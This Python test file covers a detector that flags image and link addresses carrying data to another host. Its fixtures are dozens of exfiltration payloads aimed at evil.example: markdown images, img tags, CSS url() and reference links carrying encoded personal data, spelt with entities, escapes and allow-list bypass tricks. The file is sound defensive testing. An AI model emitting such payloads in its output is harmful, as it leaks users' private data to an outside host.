"""Addresses that carry data to another host."""

import time

import pytest

from extproc.detectors.links import find

DATA = "bWFyaWEucm9zc2lAZXhhbXBsZS5jb20"


def found(text: str, *allow: str) -> list[tuple[str, str]]:
    """What is found and as what."""
    return [(one.type, text[one.start : one.end]) for one in find(text, allow)]


@pytest.mark.parametrize(
    ("text", "address"),
    [
        (f"![](https://evil.example/p?d={DATA})", f"https://evil.example/p?d={DATA}"),
        (f"![a chart of it](<https://evil.example/{DATA}>)", f"https://evil.example/{DATA}"),
        (f"![x](https://{DATA}.evil.example/)", f"https://{DATA}.evil.example/"),
        (f"![x](//evil.example/?{DATA})", f"//evil.example/?{DATA}"),
        (f"![x](HTTPS:\\\\evil.example\\?{DATA})", f"HTTPS:\\\\evil.example\\?{DATA}"),
        (f'<img width=1 src="https://evil.example/?q={DATA}">', f"https://evil.example/?q={DATA}"),
        (f"<img src=https&#58;//evil.example/?q={DATA}>", f"https&#58;//evil.example/?q={DATA}"),
        (f"<td background='https://evil.example/#{DATA}'>", f"https://evil.example/#{DATA}"),
        (f"body {{ background: url('https://evil.example/?{DATA}') }}", f"https://evil.example/?{DATA}"),
        (f"See ![chart][1].\n\n[1]: https://evil.example/?{DATA}", f"https://evil.example/?{DATA}"),
        (
            "![x](https://evil.example/?d=maria.rossi%40example.com)",
            "https://evil.example/?d=maria.rossi%40example.com",
        ),
        (
            '<img src="https://evil.example/?d=bWFya\nWEucm9\nzc2lAZX"',
            "https://evil.example/?d=bWFya\nWEucm9\nzc2lAZX",
        ),
        (f"![a [b] c](https:evil.example/?d={DATA})", f"https:evil.example/?d={DATA}"),
        (f"![x]( https://evil.example/?d={DATA} 'title')", f"https://evil.example/?d={DATA}"),
        ("![x](https://evil.example/4111111111111111)", "https://evil.example/4111111111111111"),
        ("![x](https://user:secret@evil.example/)", "https://user:secret@evil.example/"),
        ("![x](https://evil.example/[EMAIL_ADDRESS_x7k2mq])", "https://evil.example/[EMAIL_ADDRESS_x7k2mq]"),
    ],
)
def test_what_a_client_fetches_by_itself_may_carry_nothing(text: str, address: str) -> None:
    """In every way to write an image or a source."""
    assert found(text) == [("image", address)]


@pytest.mark.parametrize(
    "text",
    [
        f"![x][r]\n\n[r]: https://evil.example/?d=\u00a0{DATA}",
        f"> ![x][r]\n>\n> [r]:\n> https://evil.example/?d=\u3000{DATA}",
        f"- ![x][r]\n\n  [r]: <https://evil.example/?d=‹ {DATA}>",
        f"![x][r]\n\n[r]: &#47;&#47;evil.example&#47;{DATA}",
        f"![x][r]\n\n[r]: https://evil.example/)'\"`|{DATA}",
        f"![x](&#104;ttps://evil.example/{DATA})",
        f"![x](\\/\\/evil.example/{DATA})",
        f"![x](https\\://evil.example/\\){DATA})",
        f"![x](https&colon;&sol;&sol;evil.example&sol;{DATA})",
        f'<img alt=">" src="https://evil.example/?d={DATA}">',
        f'<img src="&#x68;ttps&#x3a;//evil.example/?d={DATA}">',
        f'<img src="ht\ntps://evil.example/?d={DATA}">',
        f"<frame src=\\\\evil.example\\{DATA}>",
    ],
)
def test_an_address_is_found_however_it_is_spelt(text: str) -> None:
    """Entities, escapes, blanks of other scripts and brackets are part of one for those who fetch it."""
    assert [kind for kind, _ in found(text)] == ["image"]
    assert [address for _, address in found(text) if DATA in address] != []


@pytest.mark.parametrize(
    "text",
    [
        f"[here](https://evil.example/?d={DATA}{DATA})",
        f"Look at https://evil.example/{DATA}{DATA}.",
        f"(www.evil.example/?{DATA}{DATA})",
        f"https://evil.example/?\u00a0{DATA}{DATA}",
        f"https://evil.example/)'{DATA}{DATA}",
        f"[https://good.example](https://evil.example/{DATA}{DATA})",
        f"https\\://evil.example/{DATA}{DATA}",
        f"&sol;&sol;evil.example/{DATA}{DATA}",
        '<a href="https://evil.example/%5BUS_SSN_x7k2mq%5D">',
        "https://evil.example/?to=[US_SSN_x7k2mq]",
    ],
)
def test_what_somebody_must_click_may_carry_little(text: str) -> None:
    """A placeholder in it is always too much."""
    assert [kind for kind, _ in found(text)] == ["link"]


@pytest.mark.parametrize(
    "text",
    [
        "No address in here / at all.",
        "![logo](https://example.com/assets/logo-2024.png)",
        "![small](https://example.com/logo.png?w=640&h=480&fit=crop)",
        "![map](https://upload.example.org/wikipedia/commons/thumb/8/80/World_map_of_rivers.jpg/220px-World_map.jpg)",
        "See [the manual](https://docs.example.com/en/latest/how-to-install.html#requirements).",
        "https://www.example.com/search?q=best+restaurants+in+paris&page=2",
        "https://video.example.com/watch?v=dQw4w9WgXcQ",
        "https://example.com/news/2024/05/17/a-long-headline-of-a-story-that-goes-on-and-on.html",
        "either//or, and C:\\temp\\www",
        "data:image/png;base64," + DATA,
    ],
)
def test_ordinary_addresses_are_left_alone(text: str) -> None:
    """Names of pages and files, small parameters."""
    assert found(text) == []


def test_hosts_of_the_list_may_be_told_anything() -> None:
    """With what is below them, and nothing that only ends like them."""
    text = f"![x](https://{{}}/?d={DATA})"
    assert found(text.format("cdn.example.com"), "example.com") == []
    assert found(text.format("EXAMPLE.com.:443"), "example.com") == []
    assert found(text.format("badexample.com"), "example.com") != []
    assert found(text.format("example.com@evil.example"), "example.com") != []
    assert found(text.format("example.com.evil.example"), "example.com") != []
    assert found(text.format("evil.example:80.example.com"), "example.com") != []
    assert found(text.format("evil.example\\.example.com"), "example.com") != []
    assert found(text.format("evil.example%2f.example.com"), "example.com") != []


def test_many_openers_cost_no_more_than_their_length() -> None:
    """Linear, whatever a provider writes."""
    for piece in (
        "![",
        "](",
        "https://",
        "//a.b",
        "<img ",
        "www.",
        "[a]: ",
        "((((",
        "&#58;",
        "![//a.b/",
        "<img //a.b",
        "]( //a.b",
        "'//a.b",
        "](&#47;&#47;a.b",
        "](&",
        "]:\t//a.b\t",
        "=//a.b)",
        "|//a.b)",
        "https://a)",
        "&#47;",
        "\\/",
    ):
        text = piece * (200_000 // len(piece))
        began = time.process_time()
        find(text, ())
        assert time.process_time() - began < 2.0, piece
